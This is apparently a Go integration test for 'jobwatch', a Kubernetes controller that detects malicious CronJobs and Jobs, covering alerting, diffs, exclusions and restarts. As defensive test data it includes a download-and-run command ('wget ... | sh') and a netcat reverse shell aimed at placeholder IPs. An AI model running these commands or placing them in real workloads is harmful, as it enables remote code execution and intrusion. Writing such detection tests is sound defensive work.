package integration

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/jobwatch/jobwatch/pkg/notify"
	"github.com/jobwatch/jobwatch/pkg/watch"
	"github.com/jobwatch/jobwatch/test/cluster"
)

// TestWatchAlertSemantics drives one controller through the life of a
// cluster: first-run baseline, create, noise, update with diff, lineage,
// manual runs, exclusions, deletion, restarts with and without changes,
// and an API server restart.
func TestWatchAlertSemantics(t *testing.T) {
	c := cluster.StartT(t, cluster.Options{})
	cs := c.AdminClient(t)
	ctx := context.Background()
	const ns = "team-a"
	for _, n := range []string{ns, "watch-excluded"} {
		createNamespace(t, cs, n)
	}
	createCronJob(t, cs, ns, "preexisting-miner", minerTemplate())

	r := newRecorder()
	store := fileStore(t)
	opts := watch.Options{ExcludeNamespaces: []string{"watch-ex*"}, AlertOnDelete: true}
	outer := t // controllers started in subtests must outlive them
	run := startController(outer, cs, r, store, opts)

	t.Run("first run takes existing objects as baseline", func(t *testing.T) {
		if got := barrier(t, cs, r, 0, ns); len(got) != 0 {
			t.Fatalf("alerts for pre-existing objects: %v", names(got))
		}
	})

	t.Run("benign CronJob: no alert; malicious: exactly one created", func(t *testing.T) {
		n := len(r.all())
		createCronJob(t, cs, ns, "backup", benignTemplate())
		createCronJob(t, cs, ns, "miner", minerTemplate())
		got := barrier(t, cs, r, n, ns)
		if len(got) != 1 || got[0].Object.Name != "miner" || got[0].Event != notify.EventCreated {
			t.Fatalf("alerts = %v, want one created for miner", names(got))
		}
		a := got[0]
		if a.APIVersion != "jobwatch/v1" || a.Kind != "Alert" || a.ID == "" || a.Object.UID == "" || a.Severity.String() != "high" && a.Severity.String() != "critical" {
			t.Fatalf("alert fields: %+v", a)
		}
		if a.Actor == nil || a.Actor.Manager == "" || a.Actor.Operation != "Update" {
			t.Errorf("actor from managedFields missing: %+v", a.Actor)
		}
	})

	t.Run("status patch and label change: none", func(t *testing.T) {
		n := len(r.all())
		cj, err := cs.BatchV1().CronJobs(ns).Get(ctx, "miner", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		now := metav1.Now()
		cj.Status.LastScheduleTime = &now
		if _, err := cs.BatchV1().CronJobs(ns).UpdateStatus(ctx, cj, metav1.UpdateOptions{}); err != nil {
			t.Fatal(err)
		}
		patch := []byte(`{"metadata":{"labels":{"team":"a","rev":"2"},"annotations":{"note":"touched"}}}`)
		if _, err := cs.BatchV1().CronJobs(ns).Patch(ctx, "miner", types.MergePatchType, patch, metav1.PatchOptions{}); err != nil {
			t.Fatal(err)
		}
		if got := barrier(t, cs, r, n, ns); len(got) != 0 {
			t.Fatalf("noise alerted: %v", names(got))
		}
	})

	t.Run("image swap plus downloader: one updated with diff", func(t *testing.T) {
		n := len(r.all())
		patch := []byte(`{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"docker.io/library/alpine:3.20","command":["/bin/sh","-c","wget -qO- http://203.0.113.9/i.sh | sh"]}]}}}}}}`)
		if _, err := cs.BatchV1().CronJobs(ns).Patch(ctx, "backup", types.StrategicMergePatchType, patch, metav1.PatchOptions{}); err != nil {
			t.Fatal(err)
		}
		got := barrier(t, cs, r, n, ns)
		if len(got) != 1 || got[0].Event != notify.EventUpdated || got[0].Object.Name != "backup" {
			t.Fatalf("alerts = %v, want one updated for backup", names(got))
		}
		a := got[0]
		if a.PreviousScore == nil || *a.PreviousScore >= a.Score {
			t.Errorf("previous score %v, score %d", a.PreviousScore, a.Score)
		}
		var image *notify.Change
		for i := range a.Diff {
			if a.Diff[i].Path == "spec.jobTemplate.spec.template.spec.containers[0].image" {
				image = &a.Diff[i]
			}
		}
		if image == nil || image.Old != "busybox:1.36" || image.New != "docker.io/library/alpine:3.20" {
			t.Fatalf("diff does not name the new image: %+v", a.Diff)
		}
	})

	t.Run("child Jobs: owner's template silent, different template alerts, manual run judged", func(t *testing.T) {
		n := len(r.all())
		owner, err := cs.BatchV1().CronJobs(ns).Get(ctx, "miner", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		ref := *metav1.NewControllerRef(owner, batchv1.SchemeGroupVersion.WithKind("CronJob"))
		own := func(j *batchv1.Job) { j.OwnerReferences = []metav1.OwnerReference{ref} }
		createJob(t, cs, ns, "miner-29000001", owner.Spec.JobTemplate.Spec.Template, own)
		tampered := podTemplate("docker.io/library/alpine:3.20", "nc 203.0.113.50 4444 -e /bin/sh")
		createJob(t, cs, ns, "miner-29000002", tampered, own)
		createJob(t, cs, ns, "miner-manual-x1", owner.Spec.JobTemplate.Spec.Template, func(j *batchv1.Job) {
			own(j)
			j.Annotations = map[string]string{"cronjob.kubernetes.io/instantiate": "manual"}
		})
		// Jobs and CronJobs are separate watches: wait for the Jobs that must alert.
		r.waitFor(t, n, ns, "miner-29000002")
		r.waitFor(t, n, ns, "miner-manual-x1")
		createJob(t, cs, ns, "job-marker", minerTemplate(), nil)
		r.waitFor(t, n, ns, "job-marker")
		var jobs []string
		for _, a := range r.since(n) {
			if a.Object.Kind == "Job" {
				jobs = append(jobs, a.Object.Name)
			}
		}
		slices.Sort(jobs)
		if strings.Join(jobs, ",") != "job-marker,miner-29000002,miner-manual-x1" {
			t.Fatalf("job alerts = %v; the routine run must be silent, the others alert once", jobs)
		}
		for _, a := range r.since(n) {
			if a.Object.Name == "miner-29000002" && (a.Object.Owner == nil || a.Object.Owner.Name != "miner") {
				t.Errorf("owner missing: %+v", a.Object)
			}
		}
	})

	t.Run("excluded namespaces: none", func(t *testing.T) {
		n := len(r.all())
		createCronJob(t, cs, "watch-excluded", "miner", minerTemplate())
		if got := barrier(t, cs, r, n, ns); len(got) != 0 {
			t.Fatalf("excluded namespace alerted: %v", names(got))
		}
	})

	t.Run("deletion of an alerted object", func(t *testing.T) {
		n := len(r.all())
		if err := cs.BatchV1().CronJobs(ns).Delete(ctx, "miner", metav1.DeleteOptions{}); err != nil {
			t.Fatal(err)
		}
		a := r.waitFor(t, n, ns, "miner")
		if a.Event != notify.EventDeleted {
			t.Fatalf("event %s, want deleted", a.Event)
		}
	})

	t.Run("stopped, malicious Job created, started: exactly one", func(t *testing.T) {
		run.stop()
		n := len(r.all())
		createJob(t, cs, ns, "created-while-down", minerTemplate(), nil)
		run = startController(outer, cs, r, store, opts)
		r.waitFor(t, n, ns, "created-while-down")
		createJob(t, cs, ns, "job-marker-2", minerTemplate(), nil)
		r.waitFor(t, n, ns, "job-marker-2")
		if got := barrier(t, cs, r, n, ns); len(got) != 2 {
			t.Fatalf("alerts after restart = %v, want exactly created-while-down and job-marker-2", names(got))
		}
	})

	t.Run("restart without changes: none", func(t *testing.T) {
		run.stop()
		n := len(r.all())
		run = startController(outer, cs, r, store, opts)
		if got := barrier(t, cs, r, n, ns); len(got) != 0 {
			t.Fatalf("restart replayed: %v", names(got))
		}
	})

	t.Run("API server restart: objects created meanwhile alert once, nothing repeats", func(t *testing.T) {
		n := len(r.all())
		c.StopAPIServer()
		if err := c.StartAPIServer(ctx); err != nil {
			t.Fatal(err)
		}
		names3 := []string{"after-restart-1", "after-restart-2", "after-restart-3"}
		for _, name := range names3 {
			createCronJob(t, cs, ns, name, minerTemplate())
		}
		// After a restart the informers re-list, so events may arrive in
		// any order: wait for each object, then let duplicates surface.
		for _, name := range names3 {
			r.waitFor(t, n, ns, name)
		}
		barrier(t, cs, r, n, ns)
		time.Sleep(2 * time.Second)
		var got []notify.Alert
		for _, a := range r.since(n) {
			if !strings.HasPrefix(a.Object.Name, "marker-") {
				got = append(got, a)
			}
		}
		slices.SortFunc(got, func(a, b notify.Alert) int { return strings.Compare(a.Object.Name, b.Object.Name) })
		if strings.Join(names(got), " ") != "created:team-a/after-restart-1 created:team-a/after-restart-2 created:team-a/after-restart-3" {
			t.Fatalf("alerts across the API server restart = %v (each new object exactly once, nothing older repeated)", names(got))
		}
	})

	t.Run("no pod env value in any alert", func(t *testing.T) {
		mustNotContain(t, r.all(), "SuperSecretValue-8d1f")
	})

	t.Run("report-existing on a first run", func(t *testing.T) {
		run.stop()
		r2 := newRecorder()
		startController(t, cs, r2, fileStore(t), watch.Options{ReportExisting: true, Namespaces: []string{ns}})
		got := barrier(t, cs, r2, 0, ns)
		if len(got) == 0 {
			t.Fatal("no existing alerts")
		}
		for _, a := range got {
			if a.Event != notify.EventExisting {
				t.Errorf("%s: event %s, want existing", a.Object.Name, a.Event)
			}
		}
	})
}

// TestWatchNamespaces: a controller limited to one namespace ignores others.
func TestWatchNamespaces(t *testing.T) {
	c := cluster.StartT(t, cluster.Options{})
	cs := c.AdminClient(t)
	createNamespace(t, cs, "inside")
	createNamespace(t, cs, "outside")
	r := newRecorder()
	startController(t, cs, r, fileStore(t), watch.Options{Namespaces: []string{"inside"}})
	createCronJob(t, cs, "outside", "miner", minerTemplate())
	createJob(t, cs, "outside", "miner", minerTemplate(), nil)
	createJob(t, cs, "inside", "miner-job", minerTemplate(), nil)
	r.waitFor(t, 0, "inside", "miner-job")
	got := barrier(t, cs, r, 0, "inside")
	if len(got) != 1 || got[0].Object.Name != "miner-job" {
		t.Fatalf("alerts = %v, want only inside/miner-job", names(got))
	}
}
